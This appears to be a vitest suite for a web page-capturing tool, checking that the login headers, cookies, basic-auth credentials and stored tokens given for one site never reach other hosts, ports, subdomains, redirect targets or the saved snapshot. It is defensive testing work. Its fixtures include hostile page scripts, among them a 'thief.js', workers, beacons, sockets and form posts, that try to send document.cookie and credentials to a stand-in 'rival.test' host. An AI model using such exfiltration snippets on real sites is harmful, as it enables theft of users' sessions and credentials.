import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { PageAccess } from '@liftmark/contract/page-access';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { availableBrowser } from '../browser/available-browser.ts';
import type { CaptureError } from '../capture-error.ts';
import { type Capturer, createCapturer } from '../capturer.ts';
import { DEFAULT_POLICY } from '../egress/policy.ts';
import { accessFor } from './site-access.ts';

const POLICY = { ...DEFAULT_POLICY, allowAllPrivate: true };
const TEXT = 'We repair wooden boats for families who sail on the lake in summer. '.repeat(6);
const SECRETS = {
  header: 'header-secret-1',
  cookie: 'cookie-secret-2',
  password: 'password-secret-3',
  agent: 'agent-secret-4',
  stored: 'stored-cookie-secret-5',
  local: 'local-storage-secret-6',
};
const BASIC = Buffer.from(`ada:${SECRETS.password}`).toString('base64');
const ALL = [...Object.values(SECRETS), BASIC];

interface Asked {
  /** Host and port with the path. */
  address: string;
  /** Everything that came, as text. */
  whole: string;
}

let asked: Asked[] = [];
const sent = (address: string) => asked.find((one) => one.address === address)?.whole ?? '';

/** Answers for any host, and keeps what it was asked with. */
async function listen(
  answer: (
    host: string,
    path: string,
    headers: string,
  ) => { location?: string; html?: string; status?: number },
) {
  const server = createServer((request, response) => {
    const host = request.headers.host ?? '';
    const whole = `${request.url} ${JSON.stringify(request.headers)}`;
    asked.push({ address: `${host}${request.url}`, whole });
    const { location, html, status = 302 } = answer(host, request.url ?? '/', whole);
    response.writeHead(location === undefined ? 200 : status, {
      'content-type': request.url?.endsWith('.js') ? 'text/javascript' : 'text/html',
      'set-cookie': 'visit=1',
      'access-control-allow-origin': '*',
      ...(location && { location }),
    });
    response.end(html ?? '');
  }).listen(0, '127.0.0.1');
  await new Promise((resolve) => server.once('listening', resolve));
  server.on('upgrade', (request, socket) => {
    asked.push({ address: `${request.headers.host}${request.url}`, whole: JSON.stringify(request.headers) });
    socket.destroy();
  });
  const close = () => new Promise((resolve) => server.close(resolve).closeAllConnections());
  return { close, port: (server.address() as AddressInfo).port };
}

/** What a page's scripts and workers may try to carry to another host. */
const TRIES = `const tries = (to, from) => Promise.allSettled([
  fetch(to + '/' + from + '-fetch', { credentials: 'include', mode: 'no-cors' }),
  fetch(to + '/' + from + '-body', { method: 'POST', mode: 'no-cors', body: globalThis.document?.cookie ?? '' }),
  fetch('/post', { method: 'POST', mode: 'no-cors', credentials: 'include', body: 'x' }),
]);
const socket = (to, from) => new WebSocket(to.replace('http', 'ws') + '/' + from + '-socket');
const events = (to, from) => new EventSource(to + '/' + from + '-events', { withCredentials: true });`;

const workerOf = (to: string) => `${TRIES}
  tries('${to}', 'worker'); socket('${to}', 'worker'); events('${to}', 'worker');
  try { importScripts('${to}/worker-import.js') } catch {}`;

const hostilePage = (to: string, sub: string) => `<title>Boats</title><h1>Boats</h1><p>${TEXT}</p>
  <link rel="prefetch" href="${to}/prefetch"><link rel="preload" as="image" href="${to}/preload">
  <img src="${to}/image"><iframe srcdoc="<img src='${to}/srcdoc'>"></iframe>
  <iframe name="target"></iframe><form action="/post" method="post" target="target"><input name="a"></form>
  <iframe src="${sub}/sub-frame"></iframe><a id="ping" target="target" href="/own.gif" ping="${to}/ping">Boats</a>
  <script>${TRIES}
    for (const host of ['${to}', '${sub}']) {
      const from = host === '${to}' ? 'page' : 'sub';
      tries(host, from); socket(host, from); events(host, from);
      navigator.sendBeacon(host + '/' + from + '-beacon', document.cookie);
    }
    new Worker('/worker.js');
    try { new SharedWorker('/worker.js') } catch {}
    navigator.serviceWorker?.register('/worker.js').catch(() => {});
    document.querySelector('#ping').click(); document.forms[0].submit();
  </script>`;

const close: (() => Promise<unknown>)[] = [];
let site = '';
let otherPort = '';
let subdomain = '';
let rival = '';

beforeAll(async () => {
  const elsewhere = await listen((_host, path) => {
    if (path === '/page') return { html: `<title>Boats</title><h1>Boats</h1><p>${TEXT}</p>` };
    if (path === '/thief.js')
      return { html: `new Image().src = '${rival}/leak?' + encodeURIComponent(document.cookie)` };
    if (path === '/frame')
      return {
        html: `<img src="${site}/asked-by-rival"><script>new WebSocket('${otherPort.replace('http', 'ws')}/rival-socket')</script>`,
      };
    return {};
  });
  const own = await listen((_host, path, whole) => {
    if (path === '/moved.gif') return { location: `${rival}/redirected.gif` };
    if (path === '/away') return { location: `${rival}/page` };
    if (path.startsWith('/other-port?')) return { location: `${otherPort}/page` };
    if (path === '/worker.js') return { html: workerOf(rival) };
    if (path === '/post') return { location: `${rival}/posted`, status: 307 };
    if (path === '/hostile') return { html: hostilePage(rival, subdomain) };
    const html = `<title>Boats</title><h1>Boats</h1><p>${TEXT}</p>
      <p>You sent ${whole.replaceAll('"', ' ')}</p><p id="kept"></p>
      <script>document.querySelector('#kept').textContent = 'Kept: ' + localStorage.getItem('token');
        new WebSocket('${otherPort.replace('http', 'ws')}/socket')</script>
      <img src="/own.gif"><img src="/moved.gif"><img src="${rival}/foreign.gif">
      <img src="${otherPort}/port.gif"><img src="${subdomain}/sub.gif">
      <script src="${rival}/thief.js"></script><iframe src="${rival}/frame"></iframe>`;
    return path.endsWith('.gif') ? {} : { html };
  });
  close.push(own.close, elsewhere.close);
  site = `http://boats.test:${own.port}`;
  otherPort = `http://boats.test:${elsewhere.port}`;
  subdomain = `http://sub.boats.test:${own.port}`;
  rival = `http://rival.test:${elsewhere.port}`;
});
afterAll(() => Promise.all(close.map((end) => end())));
beforeEach(() => {
  asked = [];
});

const ACCESS: PageAccess = {
  headers: { 'X-Preview': SECRETS.header },
  cookies: { session: SECRETS.cookie },
  basicAuth: { username: 'ada', password: SECRETS.password },
  userAgent: `Checker ${SECRETS.agent}`,
  storageState: {
    cookies: [
      { name: 'member', value: SECRETS.stored, domain: '.boats.test', path: '/', sameSite: 'None' },
      { name: 'rival', value: 'not-for-this-site', domain: 'rival.test', path: '/', sameSite: 'Lax' },
    ],
    origins: [],
  },
};

function access(): PageAccess {
  const localStorage = [{ name: 'token', value: SECRETS.local }];
  const foreign = [{ name: 'token', value: 'not-for-this-site' }];
  const origins = [
    { origin: site, localStorage },
    { origin: rival, localStorage: foreign },
  ];
  return { ...ACCESS, storageState: { cookies: ACCESS.storageState?.cookies ?? [], origins } };
}

async function withCapturer<Result>(
  chromePath: string | null,
  work: (capturer: Capturer) => Promise<Result>,
) {
  const capturer = await createCapturer({
    policy: POLICY,
    chromePath,
    budgetMs: 150_000,
    resolve: async () => ['127.0.0.1'],
  });
  try {
    return await work(capturer);
  } finally {
    await capturer.close();
  }
}

/** What went anywhere but to the site. */
const strays = () => asked.filter(({ address }) => !site.endsWith(address.slice(0, address.indexOf('/'))));

function expectNothingElsewhere() {
  for (const { address, whole } of strays()) {
    for (const secret of [...ALL, 'not-for-this-site']) expect(`${address} ${whole}`).not.toContain(secret);
  }
}

describe.skipIf((await availableBrowser()) === null)('with a browser', { timeout: 240_000 }, () => {
  it('gives the site everything, and nothing to another host, port or subdomain, or to the report', async () => {
    const given = accessFor(site, access());
    await withCapturer(null, (capturer) => capturer.capture(`${site}/`, { access: given }));
    for (const path of ['/', '/own.gif', '/moved.gif']) {
      const whole = sent(`${site.slice(7)}${path}`);
      for (const secret of [SECRETS.header, SECRETS.cookie, BASIC, SECRETS.agent, SECRETS.stored])
        expect(whole).toContain(secret);
      expect(whole).not.toContain('not-for-this-site');
    }
    expect(strays().map(({ address }) => address.slice(address.indexOf('/')))).toEqual(
      expect.arrayContaining(['/redirected.gif', '/foreign.gif', '/sub.gif', '/thief.js', '/frame']),
    );
    // Cookies of a host go to all of its ports, so none of the others is connected to.
    expect(sent(`${otherPort.slice(7)}/port.gif`)).toBe('');
    expect(sent(`${otherPort.slice(7)}/socket`)).toBe('');
    expect(sent(`${otherPort.slice(7)}/rival-socket`)).toBe('');
    expectNothingElsewhere();
  });

  it('gives nothing to another host by workers, sockets, beacons, forms or frames', async () => {
    const given = accessFor(site, access());
    const { snapshot } = await withCapturer(null, (capturer) =>
      capturer.capture(`${site}/hostile`, { access: given }),
    );
    expect(snapshot.mode).toBe('rendered');
    const reached = new Set(strays().map(({ address }) => address.slice(address.indexOf('/'))));
    for (const path of ['page-fetch', 'page-socket', 'page-events', 'page-beacon', 'posted', 'srcdoc'])
      expect(reached).toContain(`/${path}`);
    for (const path of ['worker-fetch', 'worker-import.js', 'worker-socket', 'sub-fetch', 'sub-beacon'])
      expect(reached).toContain(`/${path}`);
    expectNothingElsewhere();
  });

  it('keeps secrets that the site repeats out of the snapshot', async () => {
    const given = accessFor(site, access());
    const { snapshot } = await withCapturer(null, (capturer) =>
      capturer.capture(`${site}/`, { access: given }),
    );
    const whole = JSON.stringify(snapshot);
    for (const secret of [SECRETS.header, SECRETS.cookie, BASIC, SECRETS.stored, SECRETS.local])
      expect(whole).not.toContain(secret);
    expect(whole).toContain('You sent');
    expect(whole).toContain('Kept: •••');
  });

  it('gives nothing to the host that the page redirects to', async () => {
    const given = accessFor(site, access());
    await withCapturer(null, (capturer) => capturer.capture(`${site}/away`, { access: given }));
    expect(sent(`${site.slice(7)}/away`)).toContain(SECRETS.header);
    expect(sent(`${rival.slice(7)}/page`)).not.toBe('');
    expectNothingElsewhere();
  });

  it('opens the page for trials, too', async () => {
    const given = accessFor(site, access());
    const text = await withCapturer(null, async ({ tryOut }) =>
      tryOut?.(`${site}/`, { access: given }, async ({ desktop }) => JSON.stringify(await desktop?.read())),
    );
    for (const secret of [SECRETS.header, SECRETS.cookie, BASIC, SECRETS.agent])
      expect(sent(`${site.slice(7)}/own.gif`)).toContain(secret);
    expect(text).toContain('Kept: •••');
    expect(text).not.toContain(SECRETS.header);
    expectNothingElsewhere();
  });

  it('refuses a redirect to another port of the host, without the secrets in the reason', async () => {
    const given = accessFor(site, access());
    const failure = await withCapturer(null, (capturer) =>
      capturer.capture(`${site}/other-port?${SECRETS.header}`, { access: given }).then(
        () => null,
        (cause: CaptureError) => cause,
      ),
    );
    expect(failure?.code).toBe('blocked_destination');
    expect(`${failure?.message} ${failure?.detail} ${failure?.stack}`).not.toContain(SECRETS.header);
    expect(asked.some(({ address }) => address.startsWith(otherPort.slice(7)))).toBe(false);
  });
});

it('sends it only there without a browser, too', async () => {
  const given = accessFor(site, access());
  await withCapturer('none', (capturer) => capturer.capture(`${site}/away`, { access: given }));
  const whole = sent(`${site.slice(7)}/away`);
  for (const secret of [SECRETS.header, SECRETS.cookie, BASIC, SECRETS.agent, SECRETS.stored])
    expect(whole).toContain(secret);
  expect(sent(`${rival.slice(7)}/page`)).not.toBe('');
  expectNothingElsewhere();
});
